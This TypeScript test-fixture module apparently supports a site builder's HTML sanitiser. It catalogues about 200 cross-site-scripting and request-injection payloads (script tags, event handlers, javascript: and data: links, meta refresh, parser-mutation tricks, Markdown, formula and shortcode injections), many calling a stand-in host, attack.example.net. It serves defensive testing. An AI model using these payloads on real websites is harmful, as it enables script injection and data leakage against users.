/**
 * Ways to run a script, to redirect a page or to send a request from the text of a page. No browser may do any of
 * these on a built page.
 */
export interface Attempt {
  /** Unique, in lower case. */
  name: string;
  source: string;
  /** A code that is reported; undefined for what browsers ignore or show as text. */
  code?: string | undefined;
}

/** The host of all requests. It does not exist (RFC 2606). */
export const attackHost = 'attack.example.net';

/** The name of the global function that a successful script calls. */
export const alarm = 'attemptSucceeded';

const unsupported = 'text/unsupported-html';
const inline = 'text/inline-code';
const remote = 'text/remote-embed';
const unsafe = 'text/unsafe-link';
const formula = 'text/formula';
const none = undefined;

/** Call of the alarm, without quotes, as part of an attribute, and as an address. */
const run = `top.${alarm}(1)`;
const js = `javascript:${run}`;
const url = `https://${attackHost}/x`;
const dataPage = `data:text/html,&lt;script&gt;${run}&lt;/script&gt;`;

type Row = readonly [name: string, source: string, code: string | undefined];

const scripts: readonly Row[] = [
  ['script', `<script>${run}</script>`, inline],
  ['script in mixed case', `<ScRiPt>${run}</sCrIpT>`, inline],
  ['script with a slash', `<div><script/x>${run}</script></div>`, inline],
  ['module', `<script type="module">${run}</script>`, inline],
  ['script of a host', `<script src="${url}"></script>`, remote],
  ['script without a scheme', `<script src="//${attackHost}/x"></script>`, remote],
  ['script from data', `<script src="data:,${run}"></script>`, unsafe],
  ['script in a drawing', `<svg><script>${run}</script></svg>`, inline],
  ['script of a host in a drawing', `<svg><script href="${url}"></script></svg>`, remote],
  ['script by xlink', `<svg><script xlink:href="${url}"></script></svg>`, remote],
  ['script in mathml', `<math><script>${run}</script></math>`, inline],
  [
    'script in foreign object',
    `<svg><foreignObject><script>${run}</script></foreignObject></svg>`,
    inline,
  ],
  [
    'script in annotation',
    `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
    inline,
  ],
  ['script in desc', `<svg><desc><script>${run}</script></desc></svg>`, inline],
  ['script in a template', `<template><script>${run}</script></template>`, inline],
  [
    'script in a shadow',
    `<div><template shadowrootmode="open"><script>${run}</script></template></div>`,
    inline,
  ],
  ['script in a table', `<table><tr><td><script>${run}</script></td></tr></table>`, inline],
  ['script in a select', `<select><option><script>${run}</script></option></select>`, inline],
  ['script in noscript', `<div><noscript><script>${run}</script></noscript></div>`, inline],
  ['script in a button', `<button><script>${run}</script></button>`, inline],
];

const handlers: readonly Row[] = [
  ['image', `<img src="/no" alt="" onerror="${run}">`],
  ['image with slashes', `<div><img/src="/no"/onerror="${run}"></div>`],
  ['image in upper case', `<IMG SRC="/no" ONERROR="${run}">`],
  ['image by its old name', `<image src="/no" onerror="${run}">`],
  ['image with a line break', `<img src="/no"\nonerror="${run}">`],
  ['image that loads', `<img src="/share.png" onload="${run}">`],
  ['drawing', `<svg onload="${run}"></svg>`],
  ['drawing with a slash', `<div><svg/onload="${run}"></svg></div>`],
  ['image in a drawing', `<svg><image href="/no" onerror="${run}"></image></svg>`],
  ['animation', `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></animate></svg>`],
  ['setting', `<svg><set onbegin="${run}" attributeName="x" dur="1s"></set></svg>`],
  ['body', `<body onload="${run}">`],
  ['html', `<html onmouseover="${run}">`],
  ['frameset', `<frameset onload="${run}"></frameset>`, unsupported],
  ['details', `<details open ontoggle="${run}"><summary>a</summary></details>`],
  ['input', `<input autofocus onfocus="${run}">`],
  ['button', `<button autofocus onfocus="${run}">a</button>`],
  ['select', `<select autofocus onfocus="${run}"></select>`],
  ['textarea', `<textarea autofocus onfocus="${run}"></textarea>`],
  ['unknown element', `<x-y tabindex="1" autofocus onfocus="${run}">a</x-y>`],
  ['keygen', `<keygen autofocus onfocus="${run}">`, unsupported],
  ['video', `<video src="/no" onerror="${run}"></video>`],
  ['source', `<video><source src="/no" onerror="${run}"></video>`],
  ['audio', `<audio src="/no" onerror="${run}"></audio>`],
  ['frame', `<iframe src="/" onload="${run}"></iframe>`],
  ['object', `<object data="/no" onerror="${run}"></object>`],
  ['embed', `<embed src="/" onload="${run}">`],
  ['style sheet', `<link rel="stylesheet" href="/no" onerror="${run}">`],
  ['style', `<style onload="${run}"></style>`],
  ['marquee', `<marquee onstart="${run}">a</marquee>`],
  ['transition', `<p style="transition: all 1s" ontransitionend="${run}">a</p>`],
  ['pointer', `<p onpointerover="${run}" onmouseover="${run}">a</p>`],
  ['form', `<form onsubmit="${run}"><button>a</button></form>`],
  ['dialog', `<dialog open onclose="${run}">a</dialog>`],
  ['formula', `<math><mi onclick="${run}">x</mi></math>`],
  ['unknown event', `<p onnothing="${run}">a</p>`],
  ['scroll', `<div onscrollend="${run}">a</div>`],
].map(([name = '', source = '', code]) => [`handler of ${name}`, source, code ?? inline]);

const addresses: readonly Row[] = [
  ['link', `<a href="${js}">a</a>`],
  ['link in upper case', `<A HREF="JaVaScRiPt:${run}">a</A>`],
  ['link with a tab', `<a href="java\tscript:${run}">a</a>`],
  ['link with a reference', `<a href="java&#115;cript:${run}">a</a>`],
  ['link with a named reference', `<a href="javascript&colon;${run}">a</a>`],
  ['link with a line break', `<a href="java&#10;script:${run}">a</a>`],
  ['link with a space', `<a href=" &#32;${js}">a</a>`],
  ['link with a control character', `<a href="&#1;${js}">a</a>`],
  ['link with a soft hyphen', `<a href="java&shy;script:${run}">a</a>`],
  ['vbscript', '<a href="vbscript:MsgBox(1)">a</a>'],
  ['data', `<a href="${dataPage}">a</a>`],
  ['blob', '<a href="blob:null/1">a</a>'],
  ['file', '<a href="file:///etc/passwd">a</a>'],
  ['filesystem', '<a href="filesystem:https://ada.example/x">a</a>'],
  ['area', `<map name="m"><area href="${js}"></map>`],
  ['frame', `<iframe src="${js}"></iframe>`],
  ['frame with data', `<iframe src="${dataPage}"></iframe>`],
  ['embed', `<embed src="${js}">`],
  ['object', `<object data="${js}"></object>`],
  ['object with data', `<object data="${dataPage}"></object>`],
  ['image', `<img src="${js}" alt="">`],
  ['video', `<video src="${js}"></video>`],
  ['form', `<form action="${js}"><button>a</button></form>`],
  ['button', `<form><button formaction="${js}">a</button></form>`],
  ['input', `<form><input type="submit" formaction="${js}"></form>`],
  ['link in a drawing', `<svg><a href="${js}"><text>a</text></a></svg>`],
  ['xlink in a drawing', `<svg><a xlink:href="${js}"><text>a</text></a></svg>`],
  ['use', `<svg><use href="${js}"></use></svg>`],
  ['use with data', `<svg><use href="data:image/svg+xml,&lt;svg/&gt;"></use></svg>`],
  ['formula', `<math href="${js}"><mi>x</mi></math>`],
  ['xlink in a formula', `<math><mi xlink:href="${js}">x</mi></math>`],
  [
    'action of a formula',
    `<math><maction actiontype="statusline" xlink:href="${js}"><mi>x</mi></maction></math>`,
  ],
].map(([name = '', source = '']) => [`address of ${name}`, source, unsafe]);

const pageWide: readonly Row[] = [
  ['meta refresh', `<meta http-equiv="refresh" content="0; url=${url}">`],
  ['meta refresh with a script', `<meta http-equiv="refresh" content="0; url=${js}">`],
  ['meta refresh with data', `<meta http-equiv="refresh" content="0; url=${dataPage}">`],
  ['meta refresh in mixed case', `<META HTTP-EQUIV="Refresh" CONTENT="0;URL=${url}">`],
  ['meta policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">'],
  ['meta cookie', '<meta http-equiv="set-cookie" content="a=b">'],
  ['meta robots', '<meta name="robots" content="noindex">'],
  ['meta referrer', '<meta name="referrer" content="unsafe-url">'],
  ['base', `<base href="${url}">`],
  ['base with a script', `<base href="${js}//">`],
  ['base target', '<base target="_blank">'],
  ['canonical', `<link rel="canonical" href="/other/">`],
  ['alternate', `<link rel="alternate" href="/other/">`],
  ['icon', `<link rel="icon" href="/icon.png">`],
  ['manifest', `<link rel="manifest" href="/app.json">`],
  ['preload', `<link rel="preload" as="image" href="/icon.png">`],
  ['plaintext', `<plaintext>`],
  ['portal', `<portal src="${url}"></portal>`],
  ['fenced frame', `<fencedframe src="${url}"></fencedframe>`],
  ['frame', `<frame src="${url}">`],
  ['applet', `<applet code="x" archive="${url}"></applet>`],
  ['background sound', `<bgsound src="${url}">`],
  ['isindex', `<isindex action="${js}" prompt="a">`],
  ['noembed', `<noembed><img src="${url}"></noembed>`],
  ['noframes', `<noframes><img src="${url}"></noframes>`],
  ['srcdoc', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
  ['srcdoc with references', `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`],
  ['ping', `<a href="/" ping="${url}">a</a>`],
  ['attribution of an image', `<img src="/share.png" attributionsrc="${url}">`],
  ['attribution of a link', `<a href="/" attributionsrc="${url}">a</a>`],
  [
    'animated link',
    `<svg><a><animate attributeName="href" values="${js}"></animate><text>a</text></a></svg>`,
  ],
  [
    'animated xlink',
    `<svg><a><animate attributeName="xlink:href" from="${js}" to="${js}"></animate></a></svg>`,
  ],
  ['set link', `<svg><a><set attributeName="href" to="${js}"></set></a></svg>`],
  ['set handler', `<svg><rect><set attributeName="onmouseover" to="${run}"></set></rect></svg>`],
  [
    'animated use',
    `<svg><use><animate attributeName="href" to="data:image/svg+xml,x"></animate></use></svg>`,
  ],
  ['open shadow', `<div><template shadowrootmode="open"><p>a</p></template></div>`],
  ['closed shadow', `<div><template shadowrootmode="closed"><p>a</p></template></div>`],
].map(([name = '', source = '']) => [name, source, unsupported]);

const requests: readonly Row[] = [
  ['image', `<img src="${url}" alt="">`],
  ['image without a scheme', `<img src="//${attackHost}/x" alt="">`],
  ['image with backslashes', `<img src="\\\\${attackHost}/x" alt="">`],
  ['image with a tab', `<img src="ht\ttps://${attackHost}/x" alt="">`],
  ['image in a drawing', `<svg><image href="${url}"></image></svg>`],
  ['image by xlink', `<svg><image xlink:href="${url}"></image></svg>`],
  ['use', `<svg><use href="${url}#a"></use></svg>`],
  ['filter image', `<svg><filter><feImage href="${url}"></feImage></filter></svg>`],
  ['fill', `<svg><rect fill="url(${url}#a)"></rect></svg>`],
  ['filter', `<svg><rect filter="url('${url}#a')"></rect></svg>`],
  ['mask', `<svg><rect mask="url(${url}#a)"></rect></svg>`],
  ['clip path', `<svg><rect clip-path="url(${url}#a)"></rect></svg>`],
  ['marker', `<svg><path marker-end="url(${url}#a)"></path></svg>`],
  ['cursor', `<svg><rect cursor="url(${url}), auto"></rect></svg>`],
  ['style of a shape', `<svg><rect style="fill: url(${url}#a)"></rect></svg>`],
  ['srcset', `<img src="/share.png" srcset="${url} 2x" alt="">`],
  ['source', `<picture><source srcset="${url}"><img src="/share.png" alt=""></picture>`],
  ['lazy image', `<img data-src="${url}" alt="">`],
  ['lazy frame', `<iframe data-src="${url}"></iframe>`],
  ['lazy video', `<video data-src="${url}"></video>`],
  ['lazy source', `<video><source data-src="${url}"></video>`],
  ['background of a slide', `<section data-background-image="${url}">a</section>`],
  ['frame of a slide', `<section data-background-iframe="${url}">a</section>`],
  ['video of a slide', `<section data-background-video="${url}">a</section>`],
  ['preview', `<a href="/" data-preview-link="${url}">a</a>`],
  ['preview of a link', `<a href="${url}" data-preview-link>a</a>`],
  ['preview image', `<img src="/share.png" alt="" data-preview-image="${url}">`],
  ['video', `<video src="${url}" autoplay></video>`],
  ['audio', `<audio src="${url}" autoplay></audio>`],
  ['source of a video', `<video autoplay><source src="${url}"></video>`],
  ['poster', `<video poster="${url}"></video>`],
  ['track', `<video><track default src="${url}"></video>`],
  ['input', `<input type="image" src="${url}" alt="a">`],
  ['frame', `<iframe src="${url}"></iframe>`],
  ['embed', `<embed src="${url}">`],
  ['object', `<object data="${url}"></object>`],
  ['style sheet', `<link rel="stylesheet" href="${url}">`],
  ['background', `<table background="${url}"><tr><td>a</td></tr></table>`],
  ['background in a style', `<p style="background: url(${url})">a</p>`],
  ['image set in a style', `<p style="background: image-set('${url}' 1x)">a</p>`],
  ['prefetch', `<link rel="prefetch" href="${url}">`, unsupported],
  ['connection', `<link rel="preconnect" href="${url}">`, unsupported],
  ['name look-up', `<link rel="dns-prefetch" href="//${attackHost}">`, unsupported],
  ['module', `<link rel="modulepreload" href="${url}">`, unsupported],
  ['style element', `<style>p { background: url(${url}) }</style>`, inline],
  ['imported style', `<style>@import "${url}";</style>`, inline],
  ['style in a drawing', `<svg><style>@import "${url}";</style></svg>`, inline],
  ['form', `<form action="${url}"><input name="a"><button>a</button></form>`, 'text/remote-form'],
  ['button of a form', `<form><button formaction="${url}">a</button></form>`, 'text/remote-form'],
].map(([name = '', source = '', code]) => [`request of ${name}`, source, code ?? remote]);

/** A browser may read these in another way than the parser of this program. */
const mutations: readonly Row[] = [
  [
    'noscript',
    `<div><noscript><p title="</noscript><meta http-equiv=refresh content='0;url=${url}'>"></p></noscript></div>`,
    unsupported,
  ],
  [
    'noscript with an image',
    `<div><noscript><b title="</noscript><img src=/no onerror=${run}>"></b></noscript></div>`,
    unsupported,
  ],
  [
    'style in a drawing',
    `<svg><style><a title="</style><img src=/no onerror=${run}>"></a></style></svg>`,
    inline,
  ],
  [
    'title in a drawing',
    `<svg><title><a title="</title><img src=/no onerror=${run}>"></a></title></svg>`,
    unsupported,
  ],
  [
    'formula',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/no onerror=${run}&gt;"></style></mglyph></table></mtext></math>`,
    inline,
  ],
  [
    'formula in a form',
    `<form><math><mtext></form><form><mglyph><style></math><img src="/no" onerror="${run}"></style></form></mtext></math></form>`,
    inline,
  ],
  [
    'desc',
    `<svg><desc><noscript><b title="</noscript></desc></svg><img src=/no onerror=${run}>"></b></noscript></desc></svg>`,
    unsupported,
  ],
  ['xmp', `<xmp></xmp><img title="</xmp><img src=/no onerror=${run}>" src="/share.png">`, none],
  [
    'textarea',
    `<textarea><b title="</textarea><img src=/no onerror=${run}>"></b></textarea>`,
    inline,
  ],
  ['title', `<title><b title="</title><img src=/no onerror=${run}>"></b></title>`, inline],
  ['iframe', `<iframe><b title="</iframe><img src=/no onerror=${run}>"></b></iframe>`, inline],
  ['comment', `<!--><script>${run}</script>-->`, inline],
  ['comment with a hyphen', `<!--><img src="/no" onerror="${run}">-->`, inline],
  ['comment with a bang', `<!-- --!><img src="/no" onerror="${run}"> -->`, inline],
  ['processing instruction', `<?xml-stylesheet href="${url}"?>`, none],
  ['declaration', `<!DOCTYPE html [<!ENTITY x "${run}">]>`, none],
  ['section', `<svg><![CDATA[<script>${run}</script>]]></svg>`, none],
  ['nested tag', `<scr<script>ipt>${run}</scr</script>ipt>`, inline],
  ['escaped tag', `&lt;script&gt;${run}&lt;/script&gt;`, none],
];

const markdown: readonly Row[] = [
  ['link', `[a](${js})`, unsafe],
  ['link in angle brackets', `[a](<${js}>)`, unsafe],
  ['link with a reference', `[a](javascript&colon;${run})`, unsafe],
  ['link with a tab', `[a](<java&Tab;script:${run}>)`, none],
  ['link with data', '[a](data:text/html,x)', unsafe],
  ['autolink', `<${js}>`, unsafe],
  ['reference', `[a][r1]\n\n[r1]: ${js}`, unsafe],
  ['image', `![a](${js})`, unsafe],
  ['image of a host', `![a](${url})`, remote],
  ['image reference', `![a][r2]\n\n[r2]: ${url}`, remote],
  ['title', `[a](/ "\\"onmouseover=${run} x=\\"")`, none],
  ['alternative text', `![" onerror="${run}](/share.png)`, none],
  ['language of code', `\`\`\`"onload=${run}\nx\n\`\`\``, none],
  ['attributes of a heading', `## a {onclick="${run}"}`, none],
  ['attributes of a block', `a\n{: onclick="${run}" }`, none],
  ['footnote', `a[^"><script>]\n\n[^"><script>]: <script>${run}</script>`, inline],
  ['table', `| a |\n| - |\n| <img src="/share.png" onload="${run}"> |`, inline],
  ['formula with a link', `$\\href{${js}}{x}$`, formula],
  ['formula with an address', `$\\url{${js}}$`, formula],
  ['formula with an image', `$\\includegraphics{${url}}$`, formula],
  ['formula with an attribute', `$\\htmlData{x="onclick=${run}}{x}$`, formula],
  ['formula with a tag', `$\\text{<script>${run}</script>}$`, none],
  ['macro', `$\\def\\x{\\href{${js}}{y}}\\x$`, formula],
  ['video', `{{< youtube "\\"><script>${run}</script>" >}}`, none],
  ['figure', `{{< figure src="${js}" title="<script>${run}</script>" >}}`, unsafe],
  ['figure with a link', `{{< figure src="/share.png" link="${js}" >}}`, unsafe],
  ['icon', `{{< icon name="x\\" onload=${run}" >}}`, none],
  ['slide', `{{< slide background-image="${url}" >}}`, 'text/unknown-shortcode'],
];

/** All attempts in texts. */
export const attempts: readonly Attempt[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...pageWide,
  ...requests,
  ...mutations.map(([name, ...rest]) => [`mutation of ${name}`, ...rest] as const),
  ...markdown.map(([name, ...rest]) => [`Markdown of ${name}`, ...rest] as const),
].map(([name, source, code]) => ({ name, source, code }));
